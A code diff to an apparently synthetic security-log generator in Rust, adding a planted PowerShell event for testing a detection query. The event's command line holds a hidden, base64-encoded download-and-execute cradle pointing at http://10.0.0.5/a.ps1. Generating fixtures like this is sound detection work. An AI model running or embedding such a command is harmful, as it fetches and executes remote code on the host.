@@ -283,10 +283,24 @@ fn generate(a: &Args, mut emit: impl FnMut(Value)) -> Vec<(String, String, u64)>
             let host = &w.hosts[rng.gen_range(0..w.hosts.len())];
             let user = &w.users[rng.gen_range(0..w.users.len())];
             let t = ts(&mut rng);
-            emit(event(p, c, host, user, t, &mut rng));
+            let mut ev = event(p, c, host, user, t, &mut rng);
+            if let Some(cmd) = planted_command_line(c) {
+                ev["process"]["command_line"] = json!(cmd);
+            }
+            emit(ev);
         }
     }
     planted
+}
+
+/// The command line of a planted event where it tells the story: the PowerShell that
+/// Excel starts runs hidden with an encoded command (what `queries/encoded_powershell.conf`
+/// finds, and a long base64 word for a metrics use case).
+fn planted_command_line(child: &str) -> Option<String> {
+    // "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')" in UTF-16LE, base64.
+    const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=";
+    (child == "powershell.exe")
+        .then(|| format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED}"))
 }
 
 fn mapping() -> Value {
